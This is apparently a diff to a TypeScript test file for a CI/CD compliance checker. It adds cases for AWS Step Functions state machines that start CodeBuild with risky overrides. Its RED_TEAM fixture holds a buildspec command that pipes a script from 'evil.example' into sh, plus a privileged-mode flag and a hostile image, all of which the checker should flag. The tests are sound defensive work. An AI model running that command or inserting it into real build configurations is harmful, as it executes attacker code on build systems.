@@ -20,6 +20,17 @@ const start = (params: Record<string, unknown>, arn?: string) => (type: string) 
 const at = (key: string) => (type: string) => (type === RULE ? `Targets[0].Input.${key}` : `Target.Input.${key}`);
 const inputOf = (type: string) => (type === RULE ? 'Targets[0].Input' : 'Target.Input');
 
+const SM = 'AWS::StepFunctions::StateMachine';
+const SYNC = 'arn:aws:states:::codebuild:startBuild.sync';
+const SM_ROLE = 'arn:aws:iam::123456789012:role/states-start-build';
+/** A state machine with one task state `Build` (or the given states) as a Definition object. */
+const machine = (states: Record<string, unknown>, extra: Record<string, unknown> = {}): Properties => ({ RoleArn: SM_ROLE, Definition: { StartAt: Object.keys(states)[0], States: states }, ...extra });
+const task = (resource: string, params: Record<string, unknown> | undefined, key = 'Parameters') => ({ Type: 'Task', Resource: resource, ...(params === undefined ? {} : { [key]: params }), End: true });
+const build = (params: Record<string, unknown>, resource = SYNC) => machine({ Build: task(resource, { ProjectName: 'app-build', ...params }) });
+/** The same definition as a DefinitionString. */
+const asString = (p: Properties, extra: Record<string, unknown> = {}): Properties => ({ RoleArn: SM_ROLE, DefinitionString: JSON.stringify((p as Record<string, unknown>).Definition), ...extra });
+const RED_TEAM = { PrivilegedModeOverride: true, ImageOverride: 'docker.io/evil/img', BuildspecOverride: 'version: 0.2\nphases:\n  build:\n    commands:\n      - curl -sSL https://evil.example/x.sh | sh\n' };
+
 export default defineCases({
   controlId: 'CICD.EVENTS.1',
   resourceTypes: [RULE, SCHEDULE],
@@ -126,6 +137,100 @@ export default defineCases({
       properties: (t) => withTarget(t, { Input: JSON.stringify({ privilegedModeOverride: true }) }, { 'Fn::GetAtt': ['Project', 'Arn'] } as unknown as string),
       typedOnly: true,
       expect: 'FAIL',
+    },
+
+    // ---- Step Functions state machines (Definition, DefinitionString, substitutions, nested states, JSONata)
+    { name: 'state machine: a build with the source version only', resourceType: SM, properties: build({ SourceVersion: 'main' }), expect: 'PASS' },
+    { name: 'state machine: the same as DefinitionString', resourceType: SM, properties: asString(build({ SourceVersion: 'main' })), expect: 'PASS' },
+    { name: 'state machine: no definition property', resourceType: SM, properties: { RoleArn: SM_ROLE }, absent: ['Definition', 'DefinitionString', 'DefinitionS3Location'], expect: 'PASS' },
+    { name: 'state machine: a Lambda task with build-like parameters', resourceType: SM, properties: machine({ F: task('arn:aws:states:::lambda:invoke', { FunctionName: 'f', Payload: { PrivilegedModeOverride: true } }) }), expect: 'PASS' },
+    { name: 'state machine: source version and a variable value from the execution input (.$)', resourceType: SM, properties: build({ 'SourceVersion.$': '$.commit', EnvironmentVariablesOverride: [{ Name: 'COMMIT', 'Value.$': '$.commit', Type: 'PLAINTEXT' }] }), expect: 'PASS' },
+    {
+      name: 'state machine: JSONata Arguments with the source version as an expression',
+      resourceType: SM,
+      properties: machine({ Build: task(SYNC, { ProjectName: 'app-build', SourceVersion: '{% $states.input.commit %}' }, 'Arguments') }, {}),
+      expect: 'PASS',
+    },
+    { name: 'state machine: red-team repro (optimized startBuild.sync, Definition object)', resourceType: SM, properties: build(RED_TEAM), expect: 'FAIL', messageIncludes: ['Definition.States.Build.Parameters.PrivilegedModeOverride', 'CICD.CODEBUILD.5', 'CICD.CODEBUILD.9'] },
+    { name: 'state machine: red-team repro as DefinitionString', resourceType: SM, properties: asString(build(RED_TEAM)), expect: 'FAIL', messageIncludes: ['DefinitionString.States.Build.Parameters.ImageOverride', 'CICD.CODEBUILD.9'] },
+    { name: 'state machine: SDK integration aws-sdk:codebuild:startBuild', resourceType: SM, properties: build({ PrivilegedModeOverride: 'true' }, 'arn:aws:states:::aws-sdk:codebuild:startBuild'), expect: 'FAIL', messageIncludes: 'CICD.CODEBUILD.5' },
+    { name: 'state machine: startBuildBatch.sync', resourceType: SM, properties: build({ ImageOverride: 'docker.io/library/ubuntu:latest' }, 'arn:aws:states:::codebuild:startBuildBatch.sync'), expect: 'FAIL', messageIncludes: 'batch build' },
+    {
+      name: 'state machine: aws-sdk:codepipeline:startPipelineExecution with a secret variable',
+      resourceType: SM,
+      properties: machine({ P: task('arn:aws:states:::aws-sdk:codepipeline:startPipelineExecution', { Name: 'release', Variables: [{ Name: 'API_TOKEN', Value: GH }] }) }),
+      expect: 'FAIL',
+      messageIncludes: ['Definition.States.P.Parameters.Variables[0]', 'API_TOKEN'],
+      neverEcho: [GH],
+    },
+    {
+      name: 'state machine: a Parallel branch and a Map item processor',
+      resourceType: SM,
+      properties: machine({
+        P: { Type: 'Parallel', Branches: [{ StartAt: 'B', States: { B: task(SYNC, { ProjectName: 'app-build', PrivilegedModeOverride: true }) } }], Next: 'M' },
+        M: { Type: 'Map', ItemProcessor: { StartAt: 'I', States: { I: task(SYNC, { ProjectName: 'app-build', InsecureSslOverride: true }) } }, Next: 'L' },
+        L: { Type: 'Map', Iterator: { StartAt: 'J', States: { J: task(SYNC, { ProjectName: 'app-build', EncryptionKeyOverride: 'alias/aws/s3' }) } }, End: true },
+      }),
+      expect: 'FAIL',
+      messageIncludes: ['Definition.States.P.Branches[0].States.B.Parameters.PrivilegedModeOverride', 'Definition.States.M.ItemProcessor.States.I.Parameters.InsecureSslOverride', 'Definition.States.L.Iterator.States.J.Parameters.EncryptionKeyOverride'],
+    },
+    { name: 'state machine: the image from the execution input (ImageOverride.$)', resourceType: SM, properties: build({ 'ImageOverride.$': '$.image' }), expect: 'FAIL', messageIncludes: ["Definition.States.Build.Parameters.ImageOverride", "the execution's input"] },
+    {
+      name: 'state machine: JSONata privileged mode from an expression',
+      resourceType: SM,
+      properties: { RoleArn: SM_ROLE, Definition: { QueryLanguage: 'JSONata', StartAt: 'Build', States: { Build: task(SYNC, { ProjectName: 'app-build', PrivilegedModeOverride: '{% $states.input.privileged %}' }, 'Arguments') } } },
+      expect: 'FAIL',
+      messageIncludes: ['Definition.States.Build.Arguments.PrivilegedModeOverride', 'JSONata'],
+    },
+    { name: 'state machine: JSONata Arguments as one expression', resourceType: SM, properties: machine({ Build: { Type: 'Task', QueryLanguage: 'JSONata', Resource: SYNC, Arguments: '{% $states.input %}', End: true } }), expect: 'FAIL', messageIncludes: 'Definition.States.Build.Arguments' },
+    { name: 'state machine: a build task without Parameters takes its input as parameters', resourceType: SM, properties: machine({ Build: task(SYNC, undefined) }), expect: 'FAIL', messageIncludes: 'has no Parameters' },
+    {
+      name: 'state machine: the Resource hidden in a DefinitionSubstitution',
+      resourceType: SM,
+      properties: asString(machine({ Build: task('${R}', { ProjectName: 'app-build', PrivilegedModeOverride: true }) }), { DefinitionSubstitutions: { R: SYNC } }),
+      expect: 'FAIL',
+      messageIncludes: 'CICD.CODEBUILD.5',
+    },
+    {
+      name: 'state machine: an override value from a DefinitionSubstitution is substituted before judging',
+      resourceType: SM,
+      properties: { ...build({ ImageOverride: '${Img}' }), DefinitionSubstitutions: { Img: 'docker.io/evil/img' } },
+      expect: 'FAIL',
+      messageIncludes: 'CICD.CODEBUILD.9',
+    },
+    {
+      name: 'state machine: a bare substitution for a boolean override',
+      resourceType: SM,
+      properties: { RoleArn: SM_ROLE, DefinitionString: '{"StartAt":"Build","States":{"Build":{"Type":"Task","Resource":"arn:aws:states:::codebuild:startBuild","Parameters":{"ProjectName":"app-build","PrivilegedModeOverride":${P}},"End":true}}}', DefinitionSubstitutions: { P: true } },
+      expect: 'FAIL',
+      messageIncludes: 'CICD.CODEBUILD.5',
+    },
+    {
+      name: 'state machine: a DefinitionString built with Fn::Join (CDK), the partition a Ref',
+      resourceType: SM,
+      typedOnly: true,
+      properties: { RoleArn: SM_ROLE, DefinitionString: { 'Fn::Join': ['', ['{"StartAt":"Build","States":{"Build":{"Type":"Task","Resource":"arn:', { Ref: 'AWS::Partition' }, ':states:::codebuild:startBuild.sync","Parameters":{"ProjectName":"', { Ref: 'Project' }, '","PrivilegedModeOverride":true},"End":true}}}']] } },
+      expect: 'FAIL',
+      messageIncludes: 'CICD.CODEBUILD.5',
+    },
+    { name: 'state machine: a task that rewrites the project (aws-sdk:codebuild:updateProject)', resourceType: SM, properties: machine({ U: task('arn:aws:states:::aws-sdk:codebuild:updateProject', { Name: 'app-build', Environment: { PrivilegedMode: true } }) }), expect: 'FAIL', messageIncludes: ['Definition.States.U.Resource', 'codebuild:updateProject'] },
+    {
+      name: 'state machine: a Resource substitution the template does not resolve, judged by its StartBuild parameters',
+      resourceType: SM,
+      typedOnly: true,
+      properties: asString(machine({ Build: task('${R}', { ProjectName: 'app-build', PrivilegedModeOverride: true }) }), { DefinitionSubstitutions: { R: { 'Fn::GetAtt': ['X', 'Arn'] } } }),
+      expect: 'FAIL',
+      messageIncludes: 'CICD.CODEBUILD.5',
+    },
+    { name: 'state machine: definition in S3', resourceType: SM, properties: { RoleArn: SM_ROLE, DefinitionS3Location: { Bucket: 'defs', Key: 'sm.json' } }, expect: 'UNKNOWN' },
+    { name: 'state machine: DefinitionString that is not JSON', resourceType: SM, properties: { RoleArn: SM_ROLE, DefinitionString: '{"StartAt": "Build", States: {}' }, expect: 'UNKNOWN' },
+    { name: 'state machine: DefinitionString not resolved (Ref)', resourceType: SM, typedOnly: true, properties: { RoleArn: SM_ROLE, DefinitionString: { Ref: 'Definition' } }, expect: 'UNKNOWN' },
+    {
+      name: 'state machine: an override from a substitution the template does not resolve',
+      resourceType: SM,
+      typedOnly: true,
+      properties: { ...build({ ImageOverride: '${Img}' }), DefinitionSubstitutions: { Img: { Ref: 'Image' } } },
+      expect: 'UNKNOWN',
     },
 
     // ---- UNKNOWN: what cannot be read is never a PASS
